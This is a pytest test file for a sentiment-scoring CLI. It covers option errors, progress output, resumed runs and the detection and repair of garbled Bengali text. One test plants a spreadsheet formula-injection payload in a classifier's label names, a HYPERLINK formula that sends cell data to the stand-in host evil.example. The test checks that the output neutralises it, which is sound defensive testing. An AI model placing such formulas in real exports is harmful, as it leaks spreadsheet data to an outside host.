"""The command score: options, errors in one line, progress, what is left when it is stopped."""

import csv
import json
import re

import pytest

from sentimotion.cli import main
from sentimotion.scoring import command
from sentimotion.scoring import score_file as run
from sentimotion.tables import chunks as table
from sentimotion.tables.columns import added_columns
from tests.checkpoints import SENTENCES, change_tensors, copied
from tests.sentimotion.scoring.classifiers import write_classifier

ADDED = [column.name for column in added_columns()]
# One of the sentences is in Latin letters.
ROMANIZED = "; 1 text looks garbled or misread: romanized 1"


@pytest.fixture
def source(tmp_path):
    path = tmp_path / "in.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([("id", "text"), *enumerate(SENTENCES), (7, "")])
    return path


@pytest.fixture
def fail(capsys):
    """Run a command that fails: its one line on stderr."""

    def fail(*arguments):
        try:
            code = main(["score", *map(str, arguments)])
        except SystemExit as exit_:
            code = exit_.code
        printed = capsys.readouterr()
        assert (code, printed.out) == (2, "")
        assert re.fullmatch(r"error: [^\n]+\n", printed.err)
        return printed.err

    return fail


def rows_of(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_score(source, tmp_path, bert_folder, bert_model, capsys):
    output = tmp_path / "out.csv"
    arguments = ["score", str(source), "-o", str(output), "--model", str(bert_folder)]
    assert main([*arguments, "--sent-threshold", "0.9", "--emo-threshold", "0", "--max-length", "16"]) == 0
    printed = capsys.readouterr()
    assert (printed.out, printed.err) == ("", f"{output}: 8 rows, 1 with an error{ROMANIZED}\n")
    rows = rows_of(output)
    assert list(rows[0]) == ["id", "text", *ADDED]
    for row, text in zip(rows, SENTENCES, strict=False):
        expected = bert_model.predict(text, 0.9, 0, 16)
        assert (row["text"], row["sentiment"], row["emotion"]) == (
            text,
            expected.sentiment.label,
            expected.emotion.label,
        )
    assert rows[7]["error"] == "the text is empty; give at least one word"


WARNED = [
    ("à¦†à¦®à¦¿ à¦\u00adà¦¾à¦²à§‹", "mojibake"),
    ("সেবা ভালো ছিল", ""),
    ("Avwg fvjevwm †Zvgv‡K", "bijoy"),
    ("&quot;à¦†à¦®à¦¿&quot; 😂", "mojibake markup"),
    ("দু:খ পেলাম", "colon_for_visarga"),
    ("আবার আসব", ""),
]


def test_texts_with_warnings_are_counted_also_by_a_resumed_run(
    tmp_path, bert_folder, stop_after, monkeypatch, capsys
):
    source, output = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    lines = [json.dumps({"text": text}, ensure_ascii=False) for text, _ in WARNED]
    source.write_text("\n".join(lines), encoding="utf-8")
    arguments = ["score", str(source), "--model", str(bert_folder), "-o", str(output)]
    with monkeypatch.context():
        stop_after(2)
        with pytest.raises(SystemExit):
            main(arguments)
    capsys.readouterr()
    monkeypatch.undo()
    monkeypatch.setattr(table, "CHUNK_ROWS", 2)
    assert main(arguments) == 0
    assert capsys.readouterr().err == (
        f"{output}: 6 rows, 4 of them by an earlier run, 0 with an error;"
        " 4 texts look garbled or misread: mojibake 2, bijoy 1, markup 1, colon_for_visarga 1\n"
    )
    rows = [json.loads(line) for line in output.read_text(encoding="utf-8").splitlines()]
    assert [row["text_warnings"] for row in rows] == [warnings for _, warnings in WARNED]


def test_score_with_a_second_classifier_and_a_prefix(
    source, tmp_path, bert_folder, classifier_folder, capsys
):
    output = tmp_path / "out.jsonl"
    arguments = ["--model", str(bert_folder), "--second", str(classifier_folder), "--prefix", "m_"]
    assert main(["score", str(source), "-o", str(output), *arguments]) == 0
    assert "8 rows" in capsys.readouterr().err
    row = json.loads(output.read_text(encoding="utf-8").splitlines()[0])
    names = [f"m_{column.name}" for column in added_columns(second=True)]
    assert list(row) == ["id", "text", *names]
    assert row["m_second_label"] in ("decent", "hate", "abuse")
    assert 0 < row["m_second_score"] <= 1


def test_a_second_classifiers_label_is_no_formula_of_a_spreadsheet(source, tmp_path, bert_folder):
    """Whoever made that checkpoint named its labels."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
    folder = write_classifier(tmp_path / "second", (formula, f"+{formula}", f"@{formula}"))
    output = tmp_path / "out.csv"
    arguments = ["--model", str(bert_folder), "--second", str(folder)]
    assert main(["score", str(source), "-o", str(output), *arguments]) == 0
    with output.open(encoding="utf-8-sig", newline="") as file:
        labels = {row["second_label"] for row in csv.DictReader(file)}
    assert labels - {""}
    assert labels <= {"", f"'{formula}", f"'+{formula}", f"'@{formula}"}


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ([], "the following arguments are required: -o/--output"),
        (["-o", "out.txt"], "out.txt: expected a name that ends in .csv, .tsv, .jsonl, .ndjson or .parquet"),
        (["-o", "none/out.csv"], "there is no folder none"),
        (["-o", "out.csv", "--text-column", "body"], "no column body; its columns are id, text"),
        (["-o", "out.csv", "--sent-threshold", "7"], "the sentiment threshold is 7.0"),
        (["-o", "out.csv", "--max-length", "3"], "max_length is 3"),
        (["-o", "out.csv", "--delimiter", "ab"], "the delimiter is 'ab'"),
        (["-o", "out.csv", "--model", "no/where/there"], "no/where/there: no such folder"),
        (["-o", "out.csv", "--second", "no/where/there"], "no/where/there: no such folder"),
        (["-o", "out.csv", "--engine", "spark"], "invalid choice: 'spark'"),
        (["-o", "out.csv", "--workers", "2"], "--workers 2: goes with --engine ray"),
        (["-o", "out.csv", "--engine", "ray", "--workers", "0"], "--workers 0"),
    ],
)
def test_errors_are_one_line_and_leave_nothing(
    fail, source, tmp_path, bert_folder, monkeypatch, arguments, message
):
    monkeypatch.chdir(tmp_path)
    model = [] if "--model" in arguments else ["--model", bert_folder]
    assert message in fail(source, *arguments, *model)
    assert [path.name for path in tmp_path.iterdir()] == ["in.csv"]


def test_an_output_that_is_there_is_kept(fail, source, tmp_path, bert_folder):
    output = tmp_path / "out.csv"
    output.write_text("precious", encoding="utf-8")
    assert "already exists" in fail(source, "-o", output, "--model", bert_folder)
    assert output.read_text(encoding="utf-8") == "precious"
    assert main(["score", str(source), "-o", str(output), "--model", str(bert_folder), "--overwrite"]) == 0
    assert len(rows_of(output)) == 8


@pytest.fixture
def stop_after(monkeypatch):
    """Ctrl+C when so many chunks of two rows are written."""

    def stop_after(n_chunks):
        score_file = run.score_file

        def stopping(*arguments, on_progress, **options):
            def report(done, total):
                on_progress(done, total)
                if done == 2 * n_chunks:
                    raise KeyboardInterrupt

            return score_file(*arguments, on_progress=report, **options)

        monkeypatch.setattr(run, "score_file", stopping)

    monkeypatch.setattr(table, "CHUNK_ROWS", 2)
    return stop_after


def test_stopped_and_gone_on(source, tmp_path, bert_folder, stop_after, monkeypatch, capsys, fail):
    arguments = ["score", str(source), "--model", str(bert_folder), "-o"]
    assert main([*arguments, str(tmp_path / "whole.csv")]) == 0
    output = tmp_path / "out.csv"
    with monkeypatch.context():
        stop_after(2)
        with pytest.raises(SystemExit) as exit_:
            main([*arguments, str(output)])
    assert exit_.value.code == 130
    assert "stopped; run the same command again to resume" in capsys.readouterr().err
    assert not output.exists()
    monkeypatch.undo()
    monkeypatch.setattr(table, "CHUNK_ROWS", 2)
    # Another checkpoint, with the same name.
    other = copied(bert_folder, tmp_path / "other")
    change_tensors(other, lambda tensors: tensors["sentiment_head.bias"].add_(1))
    assert "another checkpoint exists" in fail(source, "-o", output, "--model", other)
    assert main([*arguments, str(output)]) == 0
    assert (
        capsys.readouterr().err
        == f"{output}: 8 rows, 4 of them by an earlier run, 1 with an error{ROMANIZED}\n"
    )
    assert output.read_bytes() == (tmp_path / "whole.csv").read_bytes()


def test_progress_says_rows_a_second_and_time_left(monkeypatch, capsys):
    monkeypatch.setattr("sys.stderr.isatty", lambda: True)
    with command._Progress() as report:
        report(1000, 4000)
        report(2000, 4000)
        report(4000, 4000)
    shown = capsys.readouterr().err
    assert "1000/4000" in shown
    assert "4000/4000" in shown
    assert re.search(r"\[\d\d:\d\d<", shown)
    assert "row/s" in shown


def test_no_bar_in_a_log_of_a_short_run(capsys):
    with command._Progress() as report:
        report(0, 10)
        report(10, 10)
    assert capsys.readouterr().err == ""


def test_help_names_every_option(capsys):
    with pytest.raises(SystemExit):
        main(["score", "--help"])
    shown = capsys.readouterr().out
    for option in (
        "--text-column",
        "--engine",
        "--second",
        "--restart",
        "--overwrite",
        "--prefix",
        "--delimiter",
    ):
        assert option in shown


UNREPAIRED = [
    ("à¦†à¦®à¦¿ à¦\u00adà¦¾à¦²à§‹", "আমি ভালো"),
    ("সেবা ভালো ছিল", ""),
    ("মনে দু:খ রইল", "মনে দুঃখ রইল"),
    ("=দারুণ৷", "'=দারুণ।"),
    ("ভা\ufffdলো", ""),
    ("<br>-৫০ টাকা", "'-৫০ টাকা"),
]


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_repair_adds_a_column_and_keeps_the_others(tmp_path, bert_folder, capsys, suffix):
    source, output = tmp_path / f"in{suffix}", tmp_path / f"out{suffix}"
    if suffix == ".csv":
        lines = ["text", *(text for text, _ in UNREPAIRED)]
    else:
        lines = [json.dumps({"text": text}) for text, _ in UNREPAIRED]
    source.write_bytes("\r\n".join(lines).encode())
    assert main(["score", str(source), "-o", str(output), "--model", str(bert_folder), "--repair"]) == 0
    assert capsys.readouterr().err == (
        f"{output}: 6 rows, 0 with an error; 5 texts look garbled or misread: mojibake 1,"
        " colon_for_visarga 1, danda_lookalike 1, damaged 1, markup 1; 4 texts repaired\n"
    )
    written = output.read_bytes().decode().split("\r\n" if suffix == ".csv" else "\n")
    if suffix == ".csv":
        assert all(new.startswith(f"{old},") for old, new in zip(lines, written, strict=False))
        assert [row["repaired_text"] for row in rows_of(output)] == [repaired for _, repaired in UNREPAIRED]
    else:
        assert all(new.startswith(old[:-1]) for old, new in zip(lines, written, strict=False))
        repaired = [json.loads(line)["repaired_text"] for line in written if line]
        assert repaired == [text.removeprefix("'") or None for _, text in UNREPAIRED]


def test_repairs_are_counted_also_by_a_resumed_run(tmp_path, bert_folder, stop_after, monkeypatch, capsys):
    source, output = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    lines = [json.dumps({"text": text}) for text, _ in UNREPAIRED]
    source.write_text("\n".join(lines), encoding="utf-8")
    arguments = ["score", str(source), "--model", str(bert_folder), "-o", str(output)]
    with monkeypatch.context():
        stop_after(1)
        with pytest.raises(SystemExit):
            main([*arguments, "--repair"])
    monkeypatch.undo()
    monkeypatch.setattr(table, "CHUNK_ROWS", 2)
    capsys.readouterr()
    assert main(arguments) == 2
    assert "another set of options" in capsys.readouterr().err
    assert main([*arguments, "--repair"]) == 0
    assert capsys.readouterr().err.endswith("; 4 texts repaired\n")
